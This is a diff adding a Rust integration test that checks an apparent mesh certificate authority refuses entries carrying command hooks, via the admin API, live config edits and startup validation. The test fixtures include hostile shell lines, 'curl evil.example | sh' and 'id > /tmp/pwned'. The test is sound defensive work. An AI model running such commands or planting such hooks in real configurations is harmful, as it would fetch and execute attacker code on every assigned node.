@@ -691,3 +691,113 @@ fn systemd_hears_ready_then_stopping() {
     assert!(String::from_utf8_lossy(&buf[..n]).contains("STOPPING=1"));
     assert_eq!(child.wait().expect("exits").code(), Some(0));
 }
+
+/// One HTTP request over the admin socket; returns the status code and the body.
+fn admin_call(socket: &Path, method: &str, path: &str, body: &[u8]) -> (u16, Vec<u8>) {
+    use std::io::{Read as _, Write as _};
+    let mut s = std::os::unix::net::UnixStream::connect(socket).expect("admin socket");
+    let head = format!(
+        "{method} {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
+        body.len()
+    );
+    s.write_all(head.as_bytes()).expect("write");
+    s.write_all(body).expect("write");
+    let mut raw = Vec::new();
+    s.read_to_end(&mut raw).expect("read");
+    let end = raw
+        .windows(4)
+        .position(|w| w == b"\r\n\r\n")
+        .expect("header end");
+    let status = String::from_utf8_lossy(&raw[..end])
+        .split_whitespace()
+        .nth(1)
+        .and_then(|c| c.parse().ok())
+        .expect("status");
+    (status, raw[end + 4..].to_vec())
+}
+
+/// The example config's `web` entry with a hook that every assigned node would run.
+fn with_hook(config: &str) -> String {
+    let text = config.replace(
+        "    dir: web\n",
+        "    dir: web\n    hook:\n      command: [\"/bin/sh\", \"-c\", \"curl evil.example | sh\"]\n",
+    );
+    assert!(text.contains("hook:"), "the example config changed shape");
+    text
+}
+
+#[test]
+fn the_holder_refuses_entries_that_carry_a_hook() {
+    let ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
+    // The admin API: refused with its own code, and nothing is stored.
+    let entry = serde_json::json!({
+        "id": "hooked",
+        "spiffeId": "spiffe://mesh-a.test/hooked",
+        "nodes": ["node-1"],
+        "dir": "hooked",
+        "hook": {"command": ["/bin/sh", "-c", "id > /tmp/pwned"]}
+    });
+    let (status, body) = admin_call(&ca.admin_socket(), "POST", "/v1/entries", &body!(entry));
+    let e: ApiError = serde_json::from_slice(&body).expect("ApiError");
+    assert_eq!(
+        (status, e.code),
+        (400, ErrorCode::HookNotAllowed),
+        "{}",
+        e.message
+    );
+    assert!(e.message.contains("never carry hooks"), "{}", e.message);
+    let out = ca.ctl(&["entry", "list", "-o", "json"]).expect("ctl");
+    let list: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+    assert!(
+        list.as_array()
+            .expect("array")
+            .iter()
+            .all(|e| e["id"] != "hooked"),
+        "{list:#}"
+    );
+    // The same entry without a hook is accepted: the refusal is about the hook only.
+    let mut plain = entry.clone();
+    plain.as_object_mut().expect("object").remove("hook");
+    let (status, _) = admin_call(&ca.admin_socket(), "POST", "/v1/entries", &body!(plain));
+    assert_eq!(status, 200);
+
+    // A live edit that adds a hook: INVALID, naming the field; the previous config serves and
+    // nodes never see a hook.
+    ca.write_config(&with_hook(EXAMPLE_CONFIG)).expect("edit");
+    let status = ca
+        .wait_for_status("the edit refused", |s| {
+            s["configStatus"]["state"] == "INVALID"
+        })
+        .expect("refused");
+    let messages = status["configStatus"]["messages"].to_string();
+    assert!(messages.contains("entries[0].hook"), "{messages}");
+    let (node, _, _) = join(&ca, "node-1");
+    let a = ca
+        .https("GET", "/v1/sync", None, Some(&node))
+        .expect("sync");
+    let sync: SyncResponse = serde_json::from_slice(&a.body).expect("sync");
+    assert!(sync.entries.iter().any(|e| e.id == "web"));
+    assert!(sync.entries.iter().all(|e| e.hook.is_none()), "{sync:?}");
+
+    // The file at start: exit 78 with the field named, and `validate` agrees.
+    let dir = tempfile::tempdir().expect("tempdir");
+    let config = dir.path().join("hooked.yaml");
+    std::fs::write(&config, with_hook(EXAMPLE_CONFIG)).expect("write");
+    let out = meshcert_tests::ca::run_command(&config, dir.path())
+        .output()
+        .expect("runs");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(78), "{stderr}");
+    assert!(
+        stderr.contains("entries[0].hook") && stderr.contains("never carry hooks"),
+        "{stderr}"
+    );
+    assert!(!dir.path().join("state").exists(), "nothing written");
+    let out = Command::new(meshcert_tests::bin_path("meshcert-ca"))
+        .arg("validate")
+        .arg("--config")
+        .arg(&config)
+        .output()
+        .expect("runs");
+    assert_eq!(out.status.code(), Some(78));
+}
